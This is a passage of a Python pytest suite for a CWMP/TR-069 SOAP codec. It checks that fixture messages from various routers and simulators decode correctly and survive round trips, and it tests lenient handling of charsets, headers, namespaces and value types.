"""The CWMP codec: real CPE messages, lenient decoding, strict encoding, round trips, security."""

from __future__ import annotations

import typing
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from acs.domain.codec import (
    CodecError,
    MalformedMessageError,
    UnknownMethodError,
    decode,
    encode,
    wire_namespace,
)
from acs.domain.messages import (
    AddObject,
    AddObjectResponse,
    AnyMessage,
    ArgStruct,
    AutonomousTransferComplete,
    AutonomousTransferCompleteResponse,
    CwmpVersion,
    DeleteObject,
    DeleteObjectResponse,
    DeviceIdStruct,
    Download,
    DownloadResponse,
    Envelope,
    EventStruct,
    FactoryReset,
    FactoryResetResponse,
    Fault,
    GetParameterAttributes,
    GetParameterAttributesResponse,
    GetParameterNames,
    GetParameterNamesResponse,
    GetParameterValues,
    GetParameterValuesResponse,
    GetRPCMethods,
    GetRPCMethodsResponse,
    Inform,
    InformResponse,
    Kicked,
    Message,
    ParameterAttribute,
    ParameterInfo,
    ParameterValue,
    Reboot,
    RebootResponse,
    RequestDownload,
    RequestDownloadResponse,
    ScheduleInform,
    ScheduleInformResponse,
    SetParameterAttribute,
    SetParameterAttributes,
    SetParameterAttributesResponse,
    SetParameterValues,
    SetParameterValuesFault,
    SetParameterValuesResponse,
    TransferComplete,
    TransferCompleteResponse,
    Upload,
    UploadResponse,
)
from acs.domain.soap_layout import (
    ARGS,
    DEVICE_ID,
    EVENTS,
    PARAMETER_ATTRIBUTES,
    PARAMETER_INFOS,
    SET_PARAMETER_ATTRIBUTES,
    SHAPES,
)

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "cwmp"
SOAP_ENV = "http://schemas.xmlsoap.org/soap/envelope/"
SOAP_ENC = "http://schemas.xmlsoap.org/soap/encoding/"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
CWMP_1_0 = "urn:dslforum-org:cwmp-1-0"
HUAWEI_PLACEHOLDERS = {b"%NONCE%": b"hg253s-7", b"%SERIAL%": b"HG253S0001", b"%IP%": b"192.0.2.7"}


# --- helpers -----------------------------------------------------------------


def split_http(raw: bytes) -> tuple[dict[str, str], bytes]:
    """Headers (lower-case names) and body of a raw HTTP request, de-chunked if chunked.

    The body is everything after the blank line: the fixtures were re-saved, so their
    Content-Length is off by a newline or two and is ignored.
    """
    ends = [i for i in (raw.find(b"\r\n\r\n"), raw.find(b"\n\n")) if i >= 0]
    end = min(ends)
    separator = b"\r\n\r\n" if raw.startswith(b"\r\n\r\n", end) else b"\n\n"
    head, body = raw[:end].decode("latin-1"), raw[end + len(separator) :]
    lines = [line for line in head.splitlines() if not line.startswith("#")]
    headers = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    if headers.get("transfer-encoding", "").lower() == "chunked":
        body = dechunk(body)
    return headers, body


def dechunk(body: bytes) -> bytes:
    """Undo HTTP/1.1 chunked transfer coding (RFC 9112 §7.1)."""
    out = bytearray()
    while True:
        size_line, _, rest = body.partition(b"\r\n")
        size = int(size_line.split(b";")[0], 16)
        if size == 0:
            return bytes(out)
        out += rest[:size]
        assert rest[size : size + 2] == b"\r\n", "chunk not followed by CRLF"
        body = rest[size + 2 :]


def charset_of(headers: dict[str, str]) -> str | None:
    """The charset parameter of the Content-Type header, if any."""
    for parameter in headers.get("content-type", "").split(";")[1:]:
        name, _, value = parameter.strip().partition("=")
        if name.lower() == "charset":
            return value.strip('"')
    return None


def wrap_body(fragment: bytes) -> bytes:
    """Put a body-only fragment inside a SOAP envelope that declares the prefixes it uses."""
    return (
        b'<soap-env:Envelope xmlns:soap-env="' + SOAP_ENV.encode() + b'"'
        b' xmlns:soap-enc="' + SOAP_ENC.encode() + b'" xmlns:soap_enc="' + SOAP_ENC.encode() + b'"'
        b' xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="' + XSI.encode() + b'"'
        b' xmlns:cwmp="'
        + CWMP_1_0.encode()
        + b'"><soap-env:Body>'
        + fragment
        + b"</soap-env:Body></soap-env:Envelope>"
    )


def envelope(body: str, header: str = "", namespace: str = CWMP_1_0) -> bytes:
    """A small SOAP envelope with `cwmp` bound to `namespace`."""
    return (
        f'<soap:Envelope xmlns:soap="{SOAP_ENV}" xmlns:enc="{SOAP_ENC}" xmlns:xsi="{XSI}"'
        f' xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:cwmp="{namespace}">'
        f"{f'<soap:Header>{header}</soap:Header>' if header else ''}"
        f"<soap:Body>{body}</soap:Body></soap:Envelope>"
    ).encode()


def decode_fixture(name: str) -> Envelope:
    """Decode a fixture the way the HTTP layer would: body and charset out of the request."""
    raw = (FIXTURES / name).read_bytes()
    for placeholder, value in HUAWEI_PLACEHOLDERS.items():
        raw = raw.replace(placeholder, value)
    if name.endswith(".http") or name.startswith("mikrotik"):
        headers, body = split_http(raw)
        return decode(body, charset_of(headers))
    if "fragment" in name:
        return decode(wrap_body(raw))
    return decode(raw)


def parameters_of(envelope: Envelope) -> dict[str, ParameterValue]:
    """The parameters of an Inform or GetParameterValuesResponse, by name."""
    message = envelope.message
    assert isinstance(message, Inform | GetParameterValuesResponse)
    return {parameter.name: parameter for parameter in message.parameters}


def inform_of(envelope: Envelope) -> Inform:
    """The Inform in an envelope."""
    assert isinstance(envelope.message, Inform)
    return envelope.message


def event_codes(inform: Inform) -> list[str]:
    """The event codes of an Inform, in order."""
    return [event.event_code for event in inform.events]


def minimal_inform(parameter_list: str = "", **extra: str) -> bytes:
    """An Inform with the given ParameterList content and overridable fields."""
    fields = {"MaxEnvelopes": "1", "CurrentTime": "2024-01-01T00:00:00Z", "RetryCount": "0"}
    fields.update(extra)
    scalars = "".join(f"<{name}>{value}</{name}>" for name, value in fields.items())
    return envelope(
        "<cwmp:Inform><DeviceId><Manufacturer>M</Manufacturer><OUI>A1B2C3</OUI>"
        "<ProductClass>P</ProductClass><SerialNumber>S1</SerialNumber></DeviceId>"
        '<Event enc:arrayType="cwmp:EventStruct[1]"><EventStruct><EventCode>1 BOOT</EventCode>'
        f"<CommandKey/></EventStruct></Event>{scalars}"
        f'<ParameterList enc:arrayType="cwmp:ParameterValueStruct[1]">{parameter_list}'
        "</ParameterList></cwmp:Inform>",
        '<cwmp:ID soap:mustUnderstand="1">1</cwmp:ID>',
    )


def inform_with_value(raw: bytes) -> bytes:
    """An Inform whose one parameter value is exactly these bytes (in no particular charset)."""
    return minimal_inform(pvs("X.Name", "@@")).replace(b"@@", raw)


def pvs(name: str, value: str, type_attribute: str = ' xsi:type="xsd:string"') -> str:
    """One ParameterValueStruct."""
    value_element = f"<Value{type_attribute}>{value}</Value>"
    return f"<ParameterValueStruct><Name>{name}</Name>{value_element}</ParameterValueStruct>"


# --- every fixture is covered ------------------------------------------------

DECODED = {
    "zyxel-p2601hn-f1_cwmp10_nomorerequests.xml",
    "zyxel-vmg8924-b10a_cwmp10.xml",
    "sagemcom-router-hgw4_cwmp10.xml",
    "motorola-vap2404e_cwmp10.xml",
    "cytco-bcm_cwmp10_invalid-currenttime.xml",
    "gpvresponse_device-ip_fullrate-cwmp_ex.xml",
    "thomson-speedtouch780_r6.2.15.5_inform_http-chunked_iso-8859-1.http",
    "thomson-speedtouch585_r6.2.17.5_inform.http",
    "thomson-speedtouch585_r6.2.17.5_gpvresponse_no-xsi-type_rfc2109-cookie.http",
    "thomson-speedtouch585_r6.2.17.5_fault.http",
    "zte-f600w_cwmp10_bootstrap_duplicate-param.xml",
    "mikrotik-hap-lite_cwmp10_no-header_http.txt",
    "huawei-hg253s_cwmp10_template-placeholders.xml",
    "freecwmp-openwrt-default_inform-body-fragment.xml",
    "catawampus-fakecpe_cwmp12_bootstrap_agent-output.xml",
    "mhils-honeyclient_avm-fritzbox-identity_cwmp10_agent-output.xml",
    "genieacs-sim_cwmp10_inform.xml",
    "genieacs-sim_cwmp10_gpvresponse.xml",
    "genieacs-sim_cwmp10_spvresponse.xml",
    "thomson-speedtouch780_r7.4.1.7_gparesponse.http",
}
NOT_WELL_FORMED = {
    "avm-fritzbox-7490_2017_inform-body-fragment.xml",
    "avm-fritzbox-fon-wlan-7170_2007_fragment_MANGLED.txt",
    "sagemcom-fast5657_headers-and-fragments.txt",
}


def test_every_fixture_file_has_an_expected_outcome() -> None:
    files = {path.name for path in FIXTURES.iterdir()} - {"README.md"}
    assert files == DECODED | NOT_WELL_FORMED


@pytest.mark.parametrize("name", sorted(DECODED))
def test_every_well_formed_fixture_decodes_and_survives_a_round_trip(name: str) -> None:
    decoded = decode_fixture(name)
    assert decode(encode(decoded)) == decoded


@pytest.mark.parametrize("name", sorted(NOT_WELL_FORMED))
def test_fixtures_that_are_not_well_formed_raise_malformed_message_error(name: str) -> None:
    with pytest.raises(MalformedMessageError, match="not well-formed"):
        decode_fixture(name)


def test_sagemcom_headers_and_fragments_body_is_malformed_after_the_http_headers() -> None:
    headers, body = split_http(
        (FIXTURES / "sagemcom-fast5657_headers-and-fragments.txt").read_bytes()
    )
    assert headers["user-agent"] == "gSOAP/2.7"
    assert body.startswith(b"<?xml")
    with pytest.raises(MalformedMessageError):
        decode(body, charset_of(headers))


def test_mangled_fritzbox_fragment_is_malformed_even_without_an_envelope() -> None:
    with pytest.raises(MalformedMessageError):
        decode((FIXTURES / "avm-fritzbox-fon-wlan-7170_2007_fragment_MANGLED.txt").read_bytes())


def test_thomson_get_parameter_attributes_response_keeps_a_lowercase_access_list() -> None:
    env = decode_fixture("thomson-speedtouch780_r7.4.1.7_gparesponse.http")
    assert env == Envelope(
        GetParameterAttributesResponse(
            (
                ParameterAttribute(
                    "InternetGatewayDevice.DeviceInfo.SerialNumber", 0, ("subscriber",)
                ),
                ParameterAttribute(
                    "InternetGatewayDevice.DeviceInfo.SoftwareVersion", 0, ("subscriber",)
                ),
            )
        ),
        CwmpVersion.V1_0,
        id="11_THOM_TR69_ID",
    )


# --- real Informs ------------------------------------------------------------


def test_zyxel_p2601hn_inform_ignores_the_deprecated_no_more_requests_header() -> None:
    env = decode_fixture("zyxel-p2601hn-f1_cwmp10_nomorerequests.xml")
    inform = inform_of(env)
    assert (env.version, env.id, env.hold_requests) == (CwmpVersion.V1_0, "100", False)
    assert inform.device_id == DeviceIdStruct("ZyXEL", "EC43F6", "P-2601HN-F1", "EC43F69AF408")
    assert event_codes(inform) == ["2 PERIODIC"]
    assert inform.current_time == "2015-01-19T23:08:24"
    assert len(inform.parameters) == 8
    params = parameters_of(env)
    url = "InternetGatewayDevice.ManagementServer.ConnectionRequestURL"
    assert params[url].value == "http://2.110.157.83:7676/CWMP/ConnectionRequest"
    assert params["InternetGatewayDevice.DeviceInfo.SoftwareVersion"].value == "V1.00(AACB.3)"
    assert params["InternetGatewayDevice.DeviceInfo.ProvisioningCode"] == ParameterValue(
        "InternetGatewayDevice.DeviceInfo.ProvisioningCode", "", "xsd:string"
    )


def test_zyxel_vmg8924_inform_ignores_a_zero_padded_array_count() -> None:
    env = decode_fixture("zyxel-vmg8924-b10a_cwmp10.xml")
    inform = inform_of(env)
    assert inform.device_id == DeviceIdStruct("ZyXEL", "4C9EFF", "VMG8924-B10A", "S140Y24025829")
    assert event_codes(inform) == ["6 CONNECTION REQUEST"]
    assert (env.id, inform.current_time) == ("844317904", "2016-01-30T13:20:27+01:00")
    assert len(inform.parameters) == 8
    params = parameters_of(env)
    key = params["InternetGatewayDevice.ManagementServer.ParameterKey"]
    assert key.value == "fd2cc42d07adccccbf39052325a85f11"
    url = params["InternetGatewayDevice.ManagementServer.ConnectionRequestURL"].value
    assert url == "http://[2a02:980:1400::1ff]:30005/78DF621FFD24F339452C341BEFE0E8A8"


def test_sagemcom_hgw4_inform_tolerates_soap_enc_array_as_xsi_type() -> None:
    env = decode_fixture("sagemcom-router-hgw4_cwmp10.xml")
    inform = inform_of(env)
    assert env.id == "0"
    assert inform.device_id == DeviceIdStruct("Sagemcom", "40F201", "Router", "LK14183DP340340")
    assert event_codes(inform) == ["2 PERIODIC"]
    assert [p.name for p in inform.parameters][:2] == [
        "Device.DeviceInfo.HardwareVersion",
        "Device.DeviceInfo.SoftwareVersion",
    ]
    assert parameters_of(env)["Device.DeviceInfo.ProvisioningCode"].value == "Locked"
    assert parameters_of(env)["Device.IP.Interface.4.IPv4Address.1.IPAddress"].value == (
        "172.21.135.245"
    )


def test_motorola_inform_without_soap_header_decodes_with_no_id() -> None:
    env = decode_fixture("motorola-vap2404e_cwmp10.xml")
    inform = inform_of(env)
    assert (env.id, env.hold_requests, env.session_timeout) == (None, False, None)
    assert inform.device_id == DeviceIdStruct(
        "Motorola Mobility", "001404", "VAP2404E", "M91342SA1JJ0"
    )
    assert inform.current_time == "2015-09-22T05:04:58-07:00"
    assert len(inform.parameters) == 11
    assert parameters_of(env)["Device.LAN.MACAddress"].value == "30:60:23:06:C6:8E"
    assert parameters_of(env)["Device.GatewayInfo.SerialNumber"].value == ""


def test_cytco_inform_keeps_a_broken_current_time_and_a_lowercase_oui_as_sent() -> None:
    env = decode_fixture("cytco-bcm_cwmp10_invalid-currenttime.xml")
    inform = inform_of(env)
    assert inform.current_time == "2019-03-05T11:54::14"
    assert inform.device_id == DeviceIdStruct(
        "Cytco", "00a859", "BCM Serials", "00100400FV020010000000a859f6a238"
    )
    assert (inform.retry_count, env.id) == (942, "31645")
    assert parameters_of(env)["InternetGatewayDevice.DeviceInfo.SoftwareVersion"].value == (
        "2.3.1-65-g79fe05b build 4388"
    )


def test_chunked_iso_8859_1_thomson_inform_decodes_across_chunk_boundaries() -> None:
    env = decode_fixture("thomson-speedtouch780_r6.2.15.5_inform_http-chunked_iso-8859-1.http")
    inform = inform_of(env)
    assert env.id == "14_THOM_TR69_ID"
    assert inform.device_id == DeviceIdStruct("THOMSON", "00147F", "SpeedTouch 780", "CP0644JTHJ4")
    assert event_codes(inform) == ["2 PERIODIC"]
    assert (inform.max_envelopes, inform.retry_count) == (2, 0)
    assert inform.current_time == "1970-01-01T00:28:51Z"
    assert len(inform.parameters) == 12
    params = parameters_of(env)
    # This name and the next type attribute are split across chunks.
    assert params["InternetGatewayDevice.DeviceInfo.HardwareVersion"].value == "BANT-R"
    assert params["InternetGatewayDevice.ManagementServer.ParameterKey"].type == "xsd:string"
    assert params["InternetGatewayDevice.DeviceInfo.VendorConfigFile.1.Date"] == ParameterValue(
        "InternetGatewayDevice.DeviceInfo.VendorConfigFile.1.Date",
        "0000-00-00T00:00:00",
        "xsd:dateTime",
    )
    assert params[".ExternalIPAddress"].value == "192.168.1.254"


def test_thomson_585_inform_reads_a_retry_count_of_00_as_zero() -> None:
    env = decode_fixture("thomson-speedtouch585_r6.2.17.5_inform.http")
    inform = inform_of(env)
    assert inform.device_id == DeviceIdStruct("THOMSON", "00147F", "SpeedTouch 585", "CP0703KT3PP")
    assert (inform.retry_count, inform.max_envelopes, env.id) == (0, 2, "8_THOM_TR69_ID")
    assert event_codes(inform) == ["2 PERIODIC"]
    params = parameters_of(env)
    assert params["InternetGatewayDevice.DeviceInfo.HardwareVersion"].value == "BANT-W"
    assert params[".ExternalIPAddress"].value == "10.0.0.4"


def test_zte_inform_with_a_duplicate_parameter_keeps_one_entry_at_its_first_place() -> None:
    env = decode_fixture("zte-f600w_cwmp10_bootstrap_duplicate-param.xml")
    inform = inform_of(env)
    assert inform.device_id == DeviceIdStruct("ZTE", "44F436", "F600W", "ZTEEQAWF5J00191")
    assert inform.events == (
        EventStruct("0 BOOTSTRAP", "TR069_ZTE_HOMEGATEWAY"),
        EventStruct("1 BOOT", ""),
        EventStruct("4 VALUE CHANGE", ""),
    )
    names = [p.name for p in inform.parameters]
    url = "InternetGatewayDevice.ManagementServer.ConnectionRequestURL"
    assert len(names) == 9
    assert names.count(url) == 1
    assert names.index(url) == 5
    assert parameters_of(env)[url].value == "http://10.90.13.32:58000"
    assert inform.current_time == "1970-01-02T00:08:34"


def test_mikrotik_inform_without_header_or_charset_keeps_a_boolean_as_sent() -> None:
    env = decode_fixture("mikrotik-hap-lite_cwmp10_no-header_http.txt")
    inform = inform_of(env)
    assert env.id is None
    assert inform.device_id == DeviceIdStruct("MikroTik", "E48D8C", "hAP lite", "XXXXXXXXXXXX")
    assert event_codes(inform) == ["8 DIAGNOSTICS COMPLETE"]
    assert parameters_of(env)["Device.ManagementServer.AliasBasedAddressing"] == ParameterValue(
        "Device.ManagementServer.AliasBasedAddressing", "0", "xsd:boolean"
    )
    assert parameters_of(env)["Device.DeviceInfo.SoftwareVersion"].value == "6.42rc49"


def test_huawei_template_inform_keeps_events_in_the_order_sent() -> None:
    env = decode_fixture("huawei-hg253s_cwmp10_template-placeholders.xml")
    inform = inform_of(env)
    assert env.id == "hg253s-7"
    assert inform.device_id == DeviceIdStruct("Huawei", "00E0FC", "HG253s", "HG253S0001")
    assert event_codes(inform) == ["4 VALUE CHANGE", "1 BOOT", "0 BOOTSTRAP"]
    url = "InternetGatewayDevice.ManagementServer.ConnectionRequestURL"
    assert parameters_of(env)[url].value == "http://192.0.2.7:4050/connectionRequest"
    assert parameters_of(env)["InternetGatewayDevice.DeviceInfo.ProvisioningCode"].value == ""


def test_freecwmp_fragment_in_an_envelope_decodes_with_its_odd_prefix_and_time() -> None:
    env = decode_fixture("freecwmp-openwrt-default_inform-body-fragment.xml")
    inform = inform_of(env)
    assert inform.device_id == DeviceIdStruct("freecwmp", "FFFFFF", "freecwmp", "FFFFFF123456")
    assert event_codes(inform) == ["0 BOOTSTRAP", "1 BOOT"]
    assert (inform.current_time, inform.retry_count) == ("2017-01-09T17:40:23+0000", 1)
    assert len(inform.parameters) == 11
    hardware = parameters_of(env)["InternetGatewayDevice.DeviceInfo.HardwareVersion"]
    assert hardware.value == "example_hw_version"


def test_catawampus_inform_speaks_cwmp_1_2() -> None:
    env = decode_fixture("catawampus-fakecpe_cwmp12_bootstrap_agent-output.xml")
    inform = inform_of(env)
    assert (env.version, env.id) == (CwmpVersion.V1_2, "catawampus.1795905137.009843")
    assert inform.device_id == DeviceIdStruct("Catawampus", "001A11", "Simulation", "99999999")
    assert event_codes(inform) == ["0 BOOTSTRAP"]
    assert inform.current_time == "2026-11-28T22:32:17.058825Z"
    assert parameters_of(env)["InternetGatewayDevice.DeviceInfo.SoftwareVersion"].value == (
        "fake-0.1.0"
    )


def test_honeyclient_inform_keeps_a_miscased_event_code_as_sent() -> None:
    env = decode_fixture("mhils-honeyclient_avm-fritzbox-identity_cwmp10_agent-output.xml")
    inform = inform_of(env)
    assert inform.device_id == DeviceIdStruct("AVM", "00040E", "FRITZ!Box", "0896D776FAA2")
    assert event_codes(inform) == ["4 VALUE CHANGE", "1 Boot", "0 BOOTSTRAP"]
    assert inform.current_time == "2026-11-28T22:33:41.024996"
    assert parameters_of(env)["InternetGatewayDevice.ManagementServer.ParameterKey"].value == "null"


def test_genieacs_sim_inform_counts_its_parameters_not_its_array_type() -> None:
    env = decode_fixture("genieacs-sim_cwmp10_inform.xml")
    inform = inform_of(env)
    assert env.id == "7hiulkkf"
    assert inform.device_id == DeviceIdStruct(
        "Huawei Technologies Co., Ltd.", "202BC1", "BM632w", "000000"
    )
    assert len(inform.parameters) == 7
    ip = "InternetGatewayDevice.WANDevice.1.WANConnectionDevice.1.WANIPConnection.1."
    assert parameters_of(env)[ip + "ExternalIPAddress"].value == "172.3.89.139"


# --- real responses and faults -----------------------------------------------


def test_genieacs_sim_get_parameter_values_response_keeps_value_types() -> None:
    env = decode_fixture("genieacs-sim_cwmp10_gpvresponse.xml")
    assert env.id == "acs-2"
    interval = "InternetGatewayDevice.ManagementServer.PeriodicInformInterval"
    assert parameters_of(env)[interval] == ParameterValue(interval, "300", "xsd:unsignedInt")
    assert len(parameters_of(env)) == 3


def test_genieacs_sim_set_parameter_values_response_has_status_0() -> None:
    env = decode_fixture("genieacs-sim_cwmp10_spvresponse.xml")
    assert env == Envelope(SetParameterValuesResponse(0), CwmpVersion.V1_0, id="acs-3")


def test_get_parameter_values_response_with_a_wrong_array_count_reads_the_children() -> None:
    env = decode_fixture("gpvresponse_device-ip_fullrate-cwmp_ex.xml")
    assert env.message == GetParameterValuesResponse(
        (
            ParameterValue(
                "Device.IP.Interface.3.IPv4AddressNumberOfEntries", "1", "xsd:unsignedInt"
            ),
            ParameterValue(
                "Device.IP.Interface.3.IPv6AddressNumberOfEntries", "1", "xsd:unsignedInt"
            ),
        )
    )


def test_thomson_get_parameter_values_response_without_xsi_type_reads_strings() -> None:
    env = decode_fixture(
        "thomson-speedtouch585_r6.2.17.5_gpvresponse_no-xsi-type_rfc2109-cookie.http"
    )
    params = parameters_of(env)
    assert len(params) == 6
    assert {p.type for p in params.values()} == {"xsd:string"}
    assert params["InternetGatewayDevice.DeviceInfo.SerialNumber"].value == "CP0703KT3PP"
    assert params["InternetGatewayDevice.DeviceInfo.X_000E50_Country"].value == ""


def test_thomson_fault_with_an_unprefixed_faultcode_decodes() -> None:
    env = decode_fixture("thomson-speedtouch585_r6.2.17.5_fault.http")
    assert env == Envelope(
        Fault(9000, "Method not supported", faultcode="Client"),
        CwmpVersion.V1_0,
        id="226_THOM_TR69_ID",
    )


# --- lenient decoding --------------------------------------------------------


def test_inform_without_soap_header_decodes_with_no_id() -> None:
    body = minimal_inform().replace(
        b'<soap:Header><cwmp:ID soap:mustUnderstand="1">1</cwmp:ID></soap:Header>', b""
    )
    assert b"Header" not in body
    assert decode(body).id is None


def test_id_header_without_must_understand_is_read() -> None:
    assert decode(envelope("<cwmp:GetRPCMethods/>", "<cwmp:ID>abc 1</cwmp:ID>")).id == "abc 1"


@pytest.mark.parametrize(
    ("text", "expected"), [("1", True), ("true", True), ("0", False), ("false", False)]
)
def test_hold_requests_header_is_read(text: str, expected: bool) -> None:
    header = f'<cwmp:HoldRequests soap:mustUnderstand="1">{text}</cwmp:HoldRequests>'
    assert decode(envelope("<cwmp:GetRPCMethods/>", header)).hold_requests is expected


@pytest.mark.parametrize(
    "name", ["SessionTimeout", "sessiontimeout", "SESSIONTIMEOUT", "sessionTimeout"]
)
def test_session_timeout_header_is_read_in_any_case(name: str) -> None:
    header = f"<cwmp:{name}> 60 </cwmp:{name}>"
    assert decode(envelope("<cwmp:GetRPCMethods/>", header)).session_timeout == 60


@pytest.mark.parametrize("text", ["soon", "-5", "²", "1" * 5000, ""])
def test_a_session_timeout_that_is_not_a_decimal_number_is_ignored(text: str) -> None:
    header = f"<cwmp:SessionTimeout>{text}</cwmp:SessionTimeout>"
    assert decode(envelope("<cwmp:GetRPCMethods/>", header)).session_timeout is None


@pytest.mark.parametrize("case", [str, str.lower, str.upper])
def test_cwmp_1_4_version_headers_are_read_in_any_case(case: typing.Callable[[str], str]) -> None:
    supported, use = case("SupportedCWMPVersions"), case("UseCWMPVersion")
    header = (
        f'<cwmp:{supported} soap:mustUnderstand="0"> 1.0,1.4 </cwmp:{supported}>'
        f'<cwmp:{use} soap:mustUnderstand="1">1.4</cwmp:{use}>'
    )
    env = decode(envelope("<cwmp:GetRPCMethods/>", header, CwmpVersion.V1_2.namespace))
    assert (env.supported_versions, env.use_version) == ("1.0,1.4", "1.4")


def test_envelopes_without_version_headers_have_none() -> None:
    env = decode(envelope("<cwmp:GetRPCMethods/>", "<cwmp:ID>1</cwmp:ID>"))
    assert (env.supported_versions, env.use_version) == (None, None)


def test_utf8_bom_with_xml_declaration_is_accepted() -> None:
    body = b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?>' + minimal_inform()
    assert inform_of(decode(body)).device_id.serial_number == "S1"


def test_whitespace_before_the_xml_declaration_is_ignored() -> None:
    body = b'\r\n  <?xml version="1.0"?>' + minimal_inform()
    assert inform_of(decode(body)).device_id.oui == "A1B2C3"


def test_iso_8859_1_named_by_the_xml_declaration_decodes_non_ascii_values() -> None:
    body = b'<?xml version="1.0" encoding="ISO-8859-1"?>' + inform_with_value(b"caf\xe9")
    assert inform_of(decode(body)).parameters[0].value == "café"


def test_http_charset_iso_8859_1_applies_when_the_document_has_no_declaration() -> None:
    body = inform_with_value(b"\xc3\xa9")
    assert inform_of(decode(body, "ISO-8859-1")).parameters[0].value == "Ã©"
    assert inform_of(decode(body, "utf-8")).parameters[0].value == "é"
    assert inform_of(decode(body)).parameters[0].value == "é"


def test_xml_declaration_encoding_wins_over_the_http_charset() -> None:
    body = b'<?xml version="1.0" encoding="UTF-8"?>' + inform_with_value(b"\xc3\xa9")
    assert inform_of(decode(body, "ISO-8859-1")).parameters[0].value == "é"


def test_http_charset_applies_to_a_declaration_without_encoding() -> None:
    body = b'<?xml version="1.0"?>' + inform_with_value(b"\xc3\xa9")
    assert inform_of(decode(body, '"iso-8859-1"')).parameters[0].value == "Ã©"


@pytest.mark.parametrize(
    ("body", "charset"),
    [(b"\x00", "utf-16"), (b"<a>\x00</a>", "iso-8859-1"), (b"<s:Envelope>", "base64")],
)
def test_bodies_that_a_charset_turns_into_nonsense_are_malformed(body: bytes, charset: str) -> None:
    with pytest.raises(MalformedMessageError, match="not well-formed"):
        decode(body, charset)


def test_a_bytes_to_bytes_codec_named_as_charset_is_ignored() -> None:
    body = inform_with_value(b"\xc3\xa9")
    assert inform_of(decode(body, "base64")).parameters[0].value == "é"


def test_an_unknown_http_charset_is_ignored() -> None:
    body = inform_with_value(b"\xc3\xa9")
    assert inform_of(decode(body, "x-no-such-charset")).parameters[0].value == "é"


def test_invalid_utf8_without_a_charset_is_malformed() -> None:
    with pytest.raises(MalformedMessageError):
        decode(inform_with_value(b"\xff\xfe"))


@pytest.mark.parametrize("version", list(CwmpVersion))
def test_every_cwmp_namespace_is_detected_from_the_method_element(version: CwmpVersion) -> None:
    assert decode(envelope("<cwmp:GetRPCMethods/>", namespace=version.namespace)).version is version


def test_version_comes_from_the_id_header_when_the_method_is_unqualified() -> None:
    body = envelope(
        '<GetRPCMethods xmlns=""/>', "<cwmp:ID>1</cwmp:ID>", namespace=CwmpVersion.V1_1.namespace
    )
    assert decode(body).version is CwmpVersion.V1_1


def test_version_defaults_to_1_0_without_any_cwmp_namespace() -> None:
    body = envelope(
        '<GetRPCMethods xmlns="urn:example:odd"/>', namespace=CwmpVersion.V1_2.namespace
    )
    assert decode(body) == Envelope(GetRPCMethods(), CwmpVersion.V1_0)


def test_fault_version_comes_from_its_detail_when_there_is_no_header() -> None:
    body = envelope(
        "<soap:Fault><faultcode>soap:Server</faultcode><faultstring>CWMP fault</faultstring>"
        "<detail><cwmp:Fault><FaultCode>9002</FaultCode><FaultString>Internal error</FaultString>"
        "</cwmp:Fault></detail></soap:Fault>",
        namespace=CwmpVersion.V1_2.namespace,
    )
    assert decode(body) == Envelope(
        Fault(9002, "Internal error", faultcode="Server"), CwmpVersion.V1_2
    )


def test_children_in_odd_namespaces_are_matched_by_local_name() -> None:
    body = envelope(
        '<cwmp:GetParameterValuesResponse><cwmp:ParameterList xmlns:o="urn:odd">'
        "<o:ParameterValueStruct><o:Name>A.B</o:Name>"
        '<cwmp:Value xsi:type="xsd:int">7</cwmp:Value></o:ParameterValueStruct>'
        "</cwmp:ParameterList></cwmp:GetParameterValuesResponse>"
    )
    assert decode(body).message == GetParameterValuesResponse(
        (ParameterValue("A.B", "7", "xsd:int"),)
    )


@pytest.mark.parametrize(
    ("attribute", "expected"),
    [
        (' xsi:type="xsd:unsignedInt"', "xsd:unsignedInt"),
        (' xsi:type="xs:string"', "xsd:string"),
        (' xsi:type="XMLSchema:dateTime"', "xsd:dateTime"),
        (' xsi:type="boolean"', "xsd:boolean"),
        (' xsi:type=" xsd:int "', "xsd:int"),
        (' xsi:type=""', "xsd:string"),
        ("", "xsd:string"),
    ],
)
def test_value_types_are_normalised_to_the_xsd_prefix(attribute: str, expected: str) -> None:
    decoded = inform_of(decode(minimal_inform(pvs("X.Y", "v", attribute))))
    assert decoded.parameters[0].type == expected


@pytest.mark.parametrize("raw", ["true", "TRUE", "False", "on", " 1 "])
def test_odd_booleans_are_kept_as_the_raw_value(raw: str) -> None:
    decoded = inform_of(decode(minimal_inform(pvs("X.Enable", raw, ' xsi:type="xsd:boolean"'))))
    assert decoded.parameters[0] == ParameterValue("X.Enable", raw, "xsd:boolean")


def test_duplicate_parameters_keep_the_first_place_and_the_last_value() -> None:
    body = minimal_inform(pvs("A", "1") + pvs("B", "2") + pvs("A", "3"))
    assert inform_of(decode(body)).parameters == (
        ParameterValue("A", "3"),
        ParameterValue("B", "2"),
    )


def test_parameter_values_keep_their_whitespace_but_names_lose_it() -> None:
    body = minimal_inform(pvs("\n  X.Name\n ", "  two words \n"))
    assert inform_of(decode(body)).parameters == (ParameterValue("X.Name", "  two words \n"),)


def test_a_struct_without_a_value_reads_as_an_empty_string() -> None:
    body = minimal_inform("<ParameterValueStruct><Name>X.Y</Name></ParameterValueStruct>")
    assert inform_of(decode(body)).parameters == (ParameterValue("X.Y", ""),)


@pytest.mark.parametrize("count", ["0001", "99", "0", ""])
def test_array_type_counts_are_ignored(count: str) -> None:
    body = minimal_inform(pvs("X.Y", "1")).replace(
        b"ParameterValueStruct[1]", f"ParameterValueStruct[{count}]".encode()
    )
    assert len(inform_of(decode(body)).parameters) == 1


def test_soap_enc_array_xsi_type_and_encoding_style_anywhere_are_tolerated() -> None:
    style = f'soap:encodingStyle="{SOAP_ENC}"'
    body = minimal_inform(pvs("X.Y", "1"))
    body = body.replace(b"<soap:Envelope ", f"<soap:Envelope {style} ".encode())
    body = body.replace(b"<soap:Body>", f"<soap:Body {style}>".encode())
    body = body.replace(b"<cwmp:Inform>", f"<cwmp:Inform {style}>".encode())
    body = body.replace(b"<ParameterList ", b'<ParameterList xsi:type="enc:Array" ')
    assert inform_of(decode(body)).parameters == (ParameterValue("X.Y", "1"),)


@pytest.mark.parametrize(("text", "expected"), [("00", 0), (" 3 ", 3), ("0007", 7)])
